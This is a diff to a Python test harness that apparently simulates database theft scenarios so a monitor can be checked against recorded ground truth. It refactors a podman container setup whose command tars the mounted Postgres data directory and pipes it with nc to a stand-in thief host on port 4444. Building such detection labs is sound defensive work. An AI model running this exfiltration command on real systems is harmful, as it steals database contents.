@@ -19,9 +19,10 @@ class Theft:
 
     def __init__(self, key, title, *, processes, user, destination, port, initiation, container=False, above=0):
         self.key, self.title = key, title
-        self.processes, self.user, self.destination = processes, user, destination
+        self.processes, self.user = processes, user
+        self.destinations = {destination} if isinstance(destination, str) else set(destination)
         self.port, self.initiation, self.container, self.above = port, initiation, container, above
-        self.truth, self.container_id, self.container_name = None, "", ""
+        self.truth, self.container_id, self.container_name, self.cidfile = None, "", "", ""
 
 
 def dump_curl(world):
@@ -57,32 +58,41 @@ def tar_socat(world):
 def rootfs(path):
     """A container's file system that holds busybox and nothing else."""
     os.makedirs(f"{path}/bin")
-    for d in ("proc", "sys", "dev", "tmp", "etc", "data"):
+    for d in ("proc", "sys", "dev", "tmp", "etc", "data", "usr", "lib", "lib64"):
         os.makedirs(f"{path}/{d}")
     shutil.copy("/bin/busybox", f"{path}/bin/busybox")
     for tool in ("sh", "tar", "nc", "true"):
         os.symlink("busybox", f"{path}/bin/{tool}")
 
 
-def container_tar(world):
-    """A backup container with the data directory mounted, doing more than backups."""
+def container_begin(world, theft):
+    """`podman run` up to the container's own words; the database's files are mounted at /data."""
     if not shutil.which("podman") or not os.path.exists("/bin/busybox"):
         raise Skip("no podman or busybox")
-    theft = Theft("e", "tar | nc inside a podman container", processes={"nc", "busybox"}, user="root",
-                  destination=THIEF_BOX, port=4444, initiation="connected", container=True)
     root = world.lab.path("rootfs")
     if not os.path.exists(root):
         rootfs(root)
-    name, cidfile = f"{world.lab.name}-{world.step}", world.lab.path(f"{world.step}.cid")
+    theft.container_name, theft.cidfile = f"{world.lab.name}-{world.step}", world.lab.path(f"{world.step}.cid")
     podman = ["podman", "--runtime", "runc", "--cgroup-manager", "cgroupfs"]
-    argv = podman + ["run", "--name", name, "--cidfile", cidfile, "--network", "host",
+    world.lab.callback(run, podman + ["rm", "-f", "-i", theft.container_name], check=False)
+    return podman + ["run", "--name", theft.container_name, "--cidfile", theft.cidfile, "--network", "host",
                      "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1024:1024",
-                     "--volume", f"{world.pg.data}:/data:ro", "--rootfs", root, "/bin/sh", "-c"]
-    world.lab.callback(run, podman + ["rm", "-f", "-i", name], check=False)
+                     "--volume", f"{world.pg.data}:/data:ro"]
+
+
+def container_end(theft):
+    with open(theft.cidfile, encoding="ascii") as f:
+        theft.container_id = f.read().strip()
+
+
+def container_tar(world):
+    """A backup container with the data directory mounted, doing more than backups."""
+    theft = Theft("e", "tar | nc inside a podman container", processes={"nc", "busybox"}, user="root",
+                  destination=THIEF_BOX, port=4444, initiation="connected", container=True)
+    argv = container_begin(world, theft) + ["--rootfs", world.lab.path("rootfs"), "/bin/sh", "-c"]
     theft.truth = Truth.sink(world.thief, f"{world.step}-e.truth", THIEF_BOX, 4444)
     world.db.run(argv + [f"/bin/tar -C /data -c . | /bin/nc {THIEF_BOX} 4444"])
-    with open(cidfile, encoding="ascii") as f:
-        theft.container_id, theft.container_name = f.read().strip(), name
+    container_end(theft)
     return theft
 
 
